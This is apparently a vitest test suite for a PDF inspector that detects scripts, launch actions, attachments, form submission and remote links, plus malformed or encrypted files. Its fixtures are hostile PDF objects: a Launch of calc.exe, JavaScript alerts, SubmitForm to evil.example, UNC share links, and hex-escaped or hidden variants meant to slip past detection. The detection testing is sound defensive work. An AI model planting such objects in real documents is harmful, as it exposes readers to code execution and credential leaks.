import { Buffer } from 'node:buffer'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { appendCompressed, appendPacked } from '../test-pki/compress-objects.ts'
import { appendObjects, createTestPdf } from '../test-pki/write-test-pdf.ts'
import { inspectPdf } from './inspect-pdf.ts'

const plain = createTestPdf('Statuti')
const catalogue = (entries: string): string => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`
const inspect = (pdf: Buffer): string => {
  try {
    return inspectPdf(pdf).active ?? 'nothing'
  } catch (error) {
    return error instanceof Error && 'code' in error ? String(error.code) : String(error)
  }
}

/** Packs objects into object streams, as qpdf does. */
function packed(pdf: Buffer): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'pdf-'))
  const [from, to] = [join(folder, 'a.pdf'), join(folder, 'b.pdf')]
  writeFileSync(from, pdf)
  execFileSync('qpdf', ['--object-streams=generate', from, to])
  return readFileSync(to)
}

const active: [what: string, object: string][] = [
  ['script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
  ['script', '<< /Names << /JavaScript 9 0 R >> >>'],
  ['script', '<< /S /Rendition /JS 9 0 R >>'],
  ['program', '<< /S /Launch /F (calc.exe) >>'],
  ['attachment', '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'],
  ['attachment', '<< /EmbeddedFiles << /Names [(a) 9 0 R] >> >>'],
  ['attachment', '<< /Type /Annot /Subtype /FileAttachment >>'],
  ['multimedia', '<< /Type /Annot /Subtype /RichMedia >>'],
  ['multimedia', '<< /Type /Annot /Subtype /3D >>'],
  ['xfa', '<< /XFA 9 0 R >>'],
  ['submission', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ['submission', '<< /S /ImportData /F (data.fdf) >>'],
  ['elsewhere', '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'],
  ['elsewhere', '<< /S /GoToE /T << /R /C >> >>'],
  ['elsewhere', '<< /S /URI /URI (\\\\\\\\evil\\\\share) >>'],
  ['elsewhere', '<< /S /URI /URI (file://evil/share) >>'],
  ['elsewhere', '<< /S /URI /URI (javascript:alert\\(1\\)) >>'],
  ['elsewhere', '<< /Length 0 /F (other.bin) >>\nstream\n\nendstream'],
  ['elsewhere', '<< /Ref << /F (other.pdf) /Page 0 >> >>'],
]

describe('active contents', () => {
  describe.each(active)('%s: %s', (what, object) => {
    const hex = object.replace(
      /\/([A-Z])([A-Za-z]+)/g,
      (_, first: string, rest: string) => `/#${first.charCodeAt(0).toString(16)}${rest}`,
    )
    const places: [string, () => Buffer][] = [
      ['as an object', () => appendObjects(plain, [[8, object]])],
      ['with its names escaped', () => appendObjects(plain, [[8, hex]])],
      [
        'in an array in an array',
        () => appendObjects(plain, [[8, object.includes('stream') ? object : `[[${object}]]`]]),
      ],
      ['in a revision that is past', () => appendObjects(appendObjects(plain, [[8, object]]), [[8, 'null']])],
      [
        'in an object that nothing lists',
        () => {
          const hidden = Buffer.from(`8 0 obj\n${object}\nendobj\n`)
          const text = plain.toString('latin1')
          const end = text.indexOf('xref\n0 1')
          return Buffer.from(
            text.slice(0, end) +
              hidden.toString('latin1') +
              text.slice(end).replace(/startxref\n\d+/, `startxref\n${end + hidden.length}`),
            'latin1',
          )
        },
      ],
      ...(object.includes('stream')
        ? []
        : [['in an object stream', () => appendCompressed(plain, [[8, object]])] as [string, () => Buffer]]),
    ]
    it.each(places)('is found %s', (_, pdf) => {
      expect(inspect(pdf())).toBe(what)
    })
  })

  it('is found by a name that is an object of its own', () => {
    expect(
      inspect(
        appendObjects(plain, [
          [8, '<< /S 9 0 R >>'],
          [9, '/Launch'],
        ]),
      ),
    ).toBe('program')
  })

  it('is found in what qpdf has packed', () => {
    const script = appendObjects(plain, [[1, catalogue('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')]])
    expect(packed(script).includes('JavaScript')).toBe(false)
    expect(inspect(packed(script))).toBe('script')
    expect(inspect(packed(plain))).toBe('nothing')
  })
})

describe('links', () => {
  const link = '<< /S /URI /URI (https://www.ur.gov.lv/) >>'
  const far: [string, Buffer][] = [
    ['the document', appendObjects(plain, [[1, catalogue(`/OpenAction ${link}`)]])],
    [
      'the document, by a reference',
      appendObjects(plain, [
        [1, catalogue('/OpenAction 8 0 R')],
        [8, link],
      ]),
    ],
    [
      'the document, after something else',
      appendObjects(plain, [
        [1, catalogue('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [8 0 R] >>')],
        [8, link],
      ]),
    ],
    ['a page', appendObjects(plain, [[8, `<< /AA << /O ${link} >> >>`]])],
    [
      'a page, by references',
      appendObjects(plain, [
        [8, '<< /AA 9 0 R >>'],
        [9, '<< /O 10 0 R /Other 1 >>'],
        [10, '[11 0 R]'],
        [11, link],
      ]),
    ],
    [
      'a page of an object stream',
      appendCompressed(plain, [
        [8, '<< /AA 9 0 R >>'],
        [9, '<< /O 10 0 R >>'],
        [10, link],
      ]),
    ],
    [
      'the document in a revision that is past',
      appendObjects(
        appendObjects(plain, [
          [1, catalogue('/OpenAction 8 0 R')],
          [8, link],
        ]),
        [[8, 'null']],
      ),
    ],
    [
      'the document, by a kind that another object has',
      appendObjects(plain, [
        [1, catalogue('/OpenAction 8 0 R')],
        [8, '<< /S 9 0 R >>'],
        [9, '/URI'],
      ]),
    ],
  ]
  it.each(far)('that are followed by themselves when one opens %s are found', (_, pdf) => {
    expect(inspect(pdf)).toBe('automatic')
  })

  const honest: [string, Buffer][] = [
    ['a link on a page', appendObjects(plain, [[8, `<< /Type /Annot /Subtype /Link /A ${link} >>`]])],
    [
      'a link to a file beside it on the same computer',
      appendObjects(plain, [[8, '<< /S /URI /URI (file:///C:/a.pdf) >>']]),
    ],
    [
      'a first page to show',
      appendObjects(plain, [
        [1, catalogue('/OpenAction [3 0 R /XYZ null null 0]')],
        [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [<< /Subtype /Link /A ${link} >>] >>`],
      ]),
    ],
    ['a first page to go to', appendObjects(plain, [[1, catalogue('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')]])],
    ['structure elements of any name', appendObjects(plain, [[8, '<< /Type /StructElem /S /Text#20body /P 9 0 R >>']])],
    ['a file’s name with nothing in it', appendObjects(plain, [[8, '<< /Type /Filespec /F (a.pdf) >>']])],
  ]
  it.each(honest)('and the like are let through: %s', (_, pdf) => {
    expect(inspect(pdf)).toBe('nothing')
  })
})

describe('what cannot be read in one way', () => {
  const text = plain.toString('latin1')
  const cases: [string, string, Buffer][] = [
    ['pdf-encrypted', 'an unknown encryption', Buffer.from(text.replace('/Size', '/Encrypt << >> /Size'), 'latin1')],
    [
      'pdf-malformed',
      'a past revision that was encrypted',
      appendObjects(Buffer.from(text.replace('/Size', '/Encrypt 8 0 R /Size'), 'latin1'), [[8, 'null']]),
    ],
    ['pdf-malformed', 'bytes after the end', Buffer.concat([plain, Buffer.from('more')])],
    [
      'pdf-malformed',
      'bytes between objects',
      appendObjects(Buffer.concat([plain, Buffer.from('<</S/x>>\nstartxref\n0\n%%EOF\n')]), [[8, 'null']]),
    ],
    [
      'pdf-malformed',
      'a stream that is shorter than it says',
      Buffer.from(text.replace(/\/Length \d+/, '/Length 9'), 'latin1'),
    ],
    [
      'pdf-malformed',
      'an object listed in the middle of a text',
      listedInside(appendObjects(plain, [[8, '(x 9 0 obj << /S /JavaScript >> endobj)']])),
    ],
    [
      'pdf-malformed',
      'an object of a stream that bears another number than the one it is listed with',
      appendPacked(
        plain,
        [
          [98, 'null'],
          [97, 'null'],
        ],
        [[97, 0]],
      ),
    ],
    [
      'pdf-malformed',
      'one number twice in a stream',
      appendPacked(
        plain,
        [
          [97, 'null'],
          [97, '(x)'],
        ],
        [[97, 0]],
      ),
    ],
    ['pdf-malformed', 'half a file', plain.subarray(0, plain.length / 2)],
    ['pdf-too-complex', 'arrays in arrays', appendObjects(plain, [[8, '['.repeat(100) + ']'.repeat(100)]])],
  ]
  it.each(cases)('%s: %s', (code, _, pdf) => {
    expect(inspect(pdf)).toBe(code)
  })

  /** The table lists object 9 at an offset inside a text that spells one. */
  function listedInside(pdf: Buffer): Buffer {
    const at = pdf.toString('latin1').indexOf('9 0 obj')
    const start = /startxref\n(\d+)\n%%EOF\n$/.exec(pdf.toString('latin1'))?.[1]
    const list = `xref\n9 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 10 /Root 1 0 R /Prev ${start} >>\nstartxref\n${pdf.length}\n%%EOF\n`
    return Buffer.concat([pdf, Buffer.from(list)])
  }
})

describe('pictures', () => {
  it('are not refused for what their bytes happen to spell', () => {
    const names = ['/JavaScript', '/Launch', '/EmbeddedFile', '/S /JS (', 'endobj 9 0 obj <</S /JavaScript>> endobj']
    const content = fc.tuple(
      fc.uint8Array({ maxLength: 400 }),
      fc.constantFrom(...names),
      fc.uint8Array({ maxLength: 400 }),
    )
    fc.assert(
      fc.property(content, ([before, name, after]) => {
        const data = Buffer.concat([before, Buffer.from(name), after])
        const object = Buffer.concat([
          Buffer.from(`<< /Type /XObject /Length ${data.length} >>\nstream\n`),
          data,
          Buffer.from('\nendstream'),
        ])
        expect(inspect(appendObjects(plain, [[8, object]]))).toBe('nothing')
      }),
      { numRuns: 300, seed: 20261120 },
    )
  })
})

it('a byte range says that there may be a signature', () => {
  expect(inspectPdf(plain).maySign).toBe(false)
  expect(inspectPdf(appendObjects(plain, [[8, '<< /Type /Sig /Byte#52ange [0 1 2 3] >>']])).maySign).toBe(true)
})
